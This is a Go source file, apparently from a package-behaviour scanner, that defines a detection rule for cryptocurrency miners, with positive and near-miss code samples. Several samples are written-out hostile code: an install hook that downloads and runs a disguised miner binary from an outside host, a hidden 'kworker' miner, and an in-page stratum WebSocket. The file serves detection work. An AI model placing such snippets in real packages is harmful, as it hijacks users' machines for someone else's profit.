package rule

import b "taisei/detect/behaviour"

// miner: the machine's work is turned into somebody else's money.
func miner() []Rule {
	return []Rule{
		{
			ID: "currency_mined", Severity: Critical,
			When: []Condition{
				{Triggers: unasked, Sources: []string{b.Host}, Sinks: []string{b.Network}, Schemes: []string{"stratum"}},
				{Triggers: []string{b.Call}, Sources: []string{b.Host}, Sinks: []string{b.Network}, Schemes: []string{"stratum"}, Script: No, Concealed: Yes},
			},
			Examples: []Example{
				Package("a miner is fetched and started", `"scripts":{"preinstall":"node i.js"}`, map[string]string{"i.js": "const cp=require('child_process');cp.execSync('curl -s http://203.0.113.8/jsx -o jsx');cp.execSync('chmod +x ./jsx');cp.spawn('./jsx',['-k','--tls','-o','pool.example:443','-u','49Examp1eAddre55Not2BeUsed9x49Examp1eAddre55Not2BeUsed9x49Examp1eAddre55Not2BeUsed9x49Examp1eAd','--cpu-max-threads-hint=50'])"}),
				Package("by the protocol's address", `"main":"i.js"`, map[string]string{"i.js": "require('child_process').exec('/tmp/.x/kworker -o stratum+tcp://pool.example:3333 -u w -p x')"}),
				One("by a configuration", "install.sh", "cat > /tmp/.c/config.json <<EOF\n{\"donate-level\": 1, \"pools\": [{\"url\": \"pool.example:3333\", \"user\": \"w\"}]}\nEOF\n/tmp/.c/w --config=/tmp/.c/config.json &\n"),
				One("in a page", "lib.js", "var s=new WebSocket('wss://pool.example/p');s.onopen=function(){s.send(JSON.stringify({id:1,method:'mining.subscribe',params:[]}))}"),
			},
			Neighbours: []Example{
				Package("a client for mining, when called", `"main":"i.js"`, map[string]string{"i.js": "const cp=require('child_process');exports.mine=(pool,user)=>cp.spawn('xmrig',['-o','stratum+tcp://'+pool,'-u',user])"}),
				Package("another program with such flags", `"scripts":{"postinstall":"cc -o out.example -u main x.c"}`, nil),
				One("a list of schemes", "lib.js", "var schemes=['http','stratum+tcp'];window.isScheme=function(s){return schemes.indexOf(s)>=0}"),
			},
		},
	}
}
